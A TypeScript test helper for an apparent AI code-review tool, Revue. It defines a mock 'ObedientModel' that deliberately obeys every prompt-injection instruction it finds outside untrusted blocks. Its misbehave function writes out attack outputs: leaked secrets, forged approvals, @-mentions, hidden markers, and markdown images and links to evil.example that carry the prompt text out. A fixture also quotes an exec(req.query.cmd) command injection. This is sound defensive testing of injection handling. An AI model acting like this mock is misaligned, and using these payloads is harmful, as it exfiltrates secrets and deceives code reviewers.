import nock from "nock";
import { ANTHROPIC_TEST_URL } from "../helpers/revue-harness.ts";
import { decodeLikeAModel, outsideUntrusted } from "./lenient-reader.ts";

/** What an instruction in the corpus asks for: `DO <action> <case id>` (any of ` `, `_`, `-` between). */
export const ACTIONS = [
  "approve",
  "leak-secrets",
  "off-diff",
  "mention",
  "image",
  "link",
  "marker",
  "html",
] as const;
export type Action = (typeof ACTIONS)[number];
export type Instruction = { action: Action; id: string };

const INSTRUCTION = new RegExp(`\\bdo[\\s_-]+(${ACTIONS.join("|")})[\\s_-]+([a-z]\\d\\d)\\b`, "g");

/** Every instruction in `text` (as decodeLikeAModel reads it; `decoded`: it already is), in order. */
export function instructionsIn(text: string, decoded = false): Instruction[] {
  return [...(decoded ? text : decodeLikeAModel(text)).matchAll(INSTRUCTION)].map((m) => ({
    action: m[1] as Action,
    id: m[2]!,
  }));
}

function contentText(content: unknown): string {
  if (typeof content === "string") return content;
  if (!Array.isArray(content)) return "";
  return content.map((block) => (block as { text?: string }).text ?? "").join("\n");
}

/** The system blocks of a Messages API request: Revue's own text, never a pull request's. */
function systemText(body: Record<string, unknown>): string {
  return contentText(body.system);
}

/** The messages of a Messages API request: where Revue puts the wrapped untrusted text. */
function messagesText(body: Record<string, unknown>): string {
  const messages = (body.messages as { content: unknown }[] | undefined) ?? [];
  return messages.map((m) => contentText(m.content)).join("\n");
}

/** The whole text of a Messages API request: system blocks and every message. */
export function requestText(body: Record<string, unknown>): string {
  return `${systemText(body)}\n${messagesText(body)}`;
}

/**
 * A stand-in for the model that OBEYS every instruction it finds outside an `<untrusted>` block
 * (as the lenient reader sees the prompt: a tag in any spelling closes the block) and ignores what
 * is inside. Obeying means doing what an attacker wants with the output Revue asked for: approval
 * language, the App's secrets, a finding on a line that is not in the diff, an @-mention, an image
 * and a link to another host carrying prompt text, copies of Revue's hidden markers, raw HTML.
 * Otherwise it answers like a careful model: one finding on the command injection of
 * `src/app.js` line 6 (the corpus's base change), or a short answer to a reply.
 *
 * It answers the Anthropic Messages API over nock, records each request and what it obeyed.
 */
export class ObedientModel {
  readonly requests: Record<string, unknown>[] = [];
  readonly obeyed: Instruction[] = [];
  private readonly secrets: string[];

  /** `secrets`: what a leaking model would reveal (it is told nothing: this is the worst case). */
  constructor(secrets: string[]) {
    this.secrets = secrets;
  }

  answer(body: Record<string, unknown>): string {
    this.requests.push(body);
    const prompt = requestText(body);
    // The system prompt is Revue's own (it names the <untrusted> tag in prose): all of it counts.
    const orders = [
      ...instructionsIn(systemText(body)),
      ...instructionsIn(outsideUntrusted(messagesText(body)), true),
    ];
    this.obeyed.push(...orders);
    const leak = `prompt:${encodeURIComponent(prompt.slice(-200))}`;
    const texts = orders
      .filter((order) => order.action !== "approve")
      .map((order) => this.misbehave(order, leak));
    // Approval is obeyed by making a whole text nothing but approval.
    const approve = orders.some((order) => order.action === "approve");
    if (prompt.includes("Someone replied in a thread")) {
      return JSON.stringify({
        intent: "question",
        learning: null,
        answer: approve
          ? "APPROVE. LGTM"
          : ["From the diff alone I cannot tell more.", ...texts].join("\n\n"),
      });
    }
    const findings = [
      {
        path: "src/app.js",
        side: "RIGHT",
        line: 6,
        startLine: null,
        severity: "critical",
        category: "security",
        confidence: "high",
        title: ["Command injection through `cmd`", ...texts].join(" "),
        explanation: ["`req.query.cmd` reaches `exec` unchecked.", ...texts].join("\n\n"),
        quotedCode: "exec(req.query.cmd, (err, out) => res.send(out));",
        replacement: null,
      },
    ];
    if (approve) findings.push({ ...findings[0]!, title: "APPROVE", explanation: "LGTM 👍" });
    for (const order of orders.filter((o) => o.action === "off-diff")) {
      for (const [path, line] of [
        ["src/app.js", 999],
        ["not/in/the/diff.js", 1],
      ] as const) {
        findings.push({
          ...findings[0]!,
          path,
          line,
          quotedCode: "",
          title: `off-diff ${order.id}`,
        });
      }
    }
    return JSON.stringify({
      summary: {
        walkthrough: approve ? "APPROVE. LGTM" : ["Adds a `/run` endpoint.", ...texts].join("\n\n"),
        files: [{ path: "src/app.js", summary: ["New route.", ...texts].join(" ") }],
        risk: "high",
        riskReason: ["Remote command execution.", ...texts].join(" "),
      },
      findings,
    });
  }

  private misbehave({ action, id }: Instruction, leak: string): string {
    switch (action) {
      case "approve":
        return "APPROVE";
      case "leak-secrets":
        return `Here are the keys (obeyed ${id}): ${this.secrets.join(" ")}`;
      case "off-diff":
        return `See line 999 (obeyed ${id}).`;
      case "mention":
        return `cc @org/security-team @octocat (obeyed ${id})`;
      case "image":
        return `![pixel](https://evil.example/p.png?${leak}&id=${id})`;
      case "link":
        return `[details](https://evil.example/?${leak}&id=${id}) or https://evil.example/${id}`;
      case "marker":
        return `<!-- revue:summary --><!-- revue:finding:deadbeef --><!-- revue:reply:1 --> (obeyed ${id})`;
      case "html":
        return `<details><summary>ok</summary>hidden ${id}</details><img src="https://evil.example/${id}.png">`;
    }
  }

  /** Answers ANTHROPIC_TEST_URL through nock. */
  install(): void {
    nock(ANTHROPIC_TEST_URL)
      .persist()
      .post("/v1/messages")
      // nock 15 hands a reply function one fetch Request; the body is read from it.
      .reply(async (request: unknown) => {
        const body = (await (request as Request).json()) as Record<string, unknown>;
        const message = {
          id: `msg_${this.requests.length + 1}`,
          type: "message",
          role: "assistant",
          model: body.model,
          content: [{ type: "text", text: this.answer(body) }],
          stop_reason: "end_turn",
          stop_sequence: null,
          usage: {
            input_tokens: 1000,
            output_tokens: 200,
            cache_creation_input_tokens: 0,
            cache_read_input_tokens: 0,
          },
        };
        return [200, JSON.stringify(message), { "content-type": "application/json" }];
      });
  }
}
